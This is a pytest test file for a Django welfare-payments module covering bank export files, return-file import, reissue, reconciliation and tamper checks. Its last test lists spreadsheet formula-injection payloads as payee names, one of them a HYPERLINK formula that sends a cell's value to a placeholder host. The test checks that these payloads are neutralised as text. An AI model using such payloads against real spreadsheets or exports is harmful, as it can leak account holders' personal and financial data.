"""Bank file format and totals, return import with failures, correction and
re-issue, reconciliation to the fen, the closed-loop check."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.core.exceptions import ValidationError

from minzheng.core.models import AuditEntry
from minzheng.core.personal_data import decrypt
from minzheng.payments.accounts import account_register
from minzheng.payments.bank_files import BANK_HEADER, batch_export, file_bytes
from minzheng.payments.batches import batch_run, reissue_batch_create
from minzheng.payments.models import BatchStatus, FileKind, PaymentBatch, PaymentLine
from minzheng.payments.reconciliation import batch_reconcile, closed_loop_problems, reconcile
from minzheng.payments.returns import return_file_for, returns_import
from minzheng.payments.tests.conftest import approve


def _rows(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.mark.django_db
def test_bank_file_format_and_totals(staff, town):
    batch = batch_run(actor=staff["bureau"], program="dibao", month="2025-08").batch
    with pytest.raises(ValidationError, match="审批后"):
        batch_export(actor=staff["bureau"], batch=batch)
    approve(staff, batch)
    bank_file = batch_export(actor=staff["bureau"], batch=batch)
    rows = _rows(file_bytes(bank_file))
    assert tuple(rows[0]) == BANK_HEADER == ("序号", "姓名", "证件号码", "银行账号", "金额", "用途", "批次号")
    first = rows[1]
    line = batch.lines.get(seq=1)
    assert first[0] == "1" and first[1] == line.payee_name
    assert "*" in first[2] and len(first[2]) == 18  # masked ID number
    assert first[3] == decrypt(line.account.number_enc) and first[3].isdigit()  # full account for the bank
    assert first[4] == f"{line.amount_fen // 100}.{line.amount_fen % 100:02d}"
    assert first[5] == "2025年8月最低生活保障" and first[6] == batch.number
    total = rows[-1]
    assert total[0] == "合计" and total[1] == "共2笔"
    assert total[4] == f"{batch.control_total_fen // 100}.{batch.control_total_fen % 100:02d}"
    assert sum(int(r[4].replace(".", "")) for r in rows[1:-1]) == batch.control_total_fen
    batch.refresh_from_db()
    assert batch.status == BatchStatus.EXPORTED
    # a second export serves the same stored file; both are audited
    assert batch_export(actor=staff["bureau"], batch=batch).sha256 == bank_file.sha256
    assert AuditEntry.objects.filter(action="payments.batch.export", object_id=batch.number).count() == 2
    # the Excel ledger: masked accounts, total = sum of lines
    ledger = batch_export(actor=staff["bureau"], batch=batch, kind=FileKind.LEDGER_XLSX)
    sheet = openpyxl.load_workbook(io.BytesIO(file_bytes(ledger))).active
    values = list(sheet.values)
    assert values[1][0] == "序号" and "****" in values[2][6]
    assert values[-1][0] == "合计" and round(values[-1][9] * 100) == sum(round(r[9] * 100) for r in values[2:-1])


@pytest.mark.django_db
def test_returns_with_failures_correction_reissue_and_reconciliation(staff, town, paid_month):
    batch = paid_month("dibao", "2025-08")
    failed_line = batch.lines.get(seq=2)
    # when the bank pays line 1 and refuses line 2
    record = returns_import(actor=staff["bureau"], batch=batch, filename="回盘.csv",
                            content=return_file_for(batch, {2: "账户已销户"}))
    assert (record.paid_count, record.failed_count) == (1, 1)
    failed_line.refresh_from_db()
    assert failed_line.bank_return.outcome == "failed" and failed_line.bank_return.reason == "账户已销户"
    # the same file again changes nothing
    again = returns_import(actor=staff["bureau"], batch=batch, filename="回盘.csv",
                           content=return_file_for(batch, {2: "账户已销户"}))
    assert (again.paid_count, again.failed_count, again.already_count) == (0, 0, 2)
    r = reconcile(batch)
    assert r.approved["amount_fen"] == r.paid["amount_fen"] + r.awaiting_reissue["amount_fen"]
    assert r.balanced and r.awaiting_reissue["count"] == 1
    # nothing to re-issue until the account is corrected
    assert reissue_batch_create(actor=staff["bureau"], program="dibao", month="2025-09") is None
    account_register(actor=staff["street"], person=failed_line.person, bank_name="中国银行", holder_name=failed_line.payee_name,
                     number="6217850000012345678", reason="原账户已销户")
    reissue = reissue_batch_create(actor=staff["bureau"], program="dibao", month="2025-09")
    line = reissue.lines.get()
    assert (line.kind, line.corrects_id, line.amount_fen, line.benefit_month) == (
        "reissue", failed_line.pk, failed_line.amount_fen, "2025-08")
    assert line.account_masked.endswith("5678")
    # a second re-issue of the same failed line is impossible
    assert reissue_batch_create(actor=staff["bureau"], program="dibao", month="2025-09") is None
    approve(staff, reissue)
    r = reconcile(batch)
    assert (r.paid["amount_fen"] + r.reissued["amount_fen"] + r.awaiting_reissue["amount_fen"]
            + r.not_returned["amount_fen"]) == r.approved["amount_fen"]
    assert r.reissued["amount_fen"] == failed_line.amount_fen and r.awaiting_reissue["count"] == 0
    batch = batch_reconcile(actor=staff["approver"], batch=batch)
    assert batch.status == BatchStatus.RECONCILED
    assert closed_loop_problems(PaymentBatch.objects.all()) == []


@pytest.mark.django_db
def test_bad_return_file_is_refused_whole_with_row_and_column(staff, town, paid_month):
    batch = paid_month("dibao", "2025-08")
    content = return_file_for(batch).decode("utf-8")
    lines = content.splitlines()
    cells = lines[2].split(",")
    cells[3] = "1.00"  # wrong amount on the second line
    lines[2] = ",".join(cells)
    lines.append(f"{batch.number},99,6222,1.00,成功,")
    bad = "\r\n".join(lines).encode("utf-8")
    with pytest.raises(ValidationError) as err:
        returns_import(actor=staff["bureau"], batch=batch, filename="bad.csv", content=bad)
    message = "".join(err.value.messages)
    assert "第3行“金额”" in message and "“99”在本批次中不存在" in message
    assert not PaymentLine.objects.filter(bank_return__isnull=False).exists()
    with pytest.raises(ValidationError, match="没有银行回盘结果"):
        batch_reconcile(actor=staff["approver"], batch=batch)


@pytest.mark.django_db
def test_closed_loop_flags_a_batch_whose_lines_were_tampered(staff, town, paid_month):
    batch = paid_month("dibao", "2025-08")
    PaymentLine.objects.filter(batch=batch, seq=1).update(amount_fen=1, city_fen=0, district_fen=1)
    problems = closed_loop_problems(PaymentBatch.objects.all())
    assert problems and problems[0][0] == batch and "控制数" in problems[0][1]


FORMULAS = ['=HYPERLINK("http://x.example/?a="&D2,"查看")', "+1+2", "-2+3", "@SUM(1+1)"]


@pytest.mark.django_db
@pytest.mark.parametrize("name", FORMULAS)
def test_a_formula_as_a_payee_name_stays_text_in_the_bank_file_and_ledger(staff, town, name):
    batch = batch_run(actor=staff["bureau"], program="dibao", month="2025-08").batch
    PaymentLine.objects.filter(batch=batch, seq=1).update(payee_name=name)  # as entered for the account holder
    approve(staff, batch)
    rows = _rows(file_bytes(batch_export(actor=staff["bureau"], batch=batch)))
    assert rows[1][1] == "'" + name
    assert rows[1][4].replace(".", "").isdigit()  # amounts stay numbers
    ledger = batch_export(actor=staff["bureau"], batch=batch, kind=FileKind.LEDGER_XLSX)
    sheet = openpyxl.load_workbook(io.BytesIO(file_bytes(ledger))).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert sheet.cell(row=3, column=4).value == "'" + name
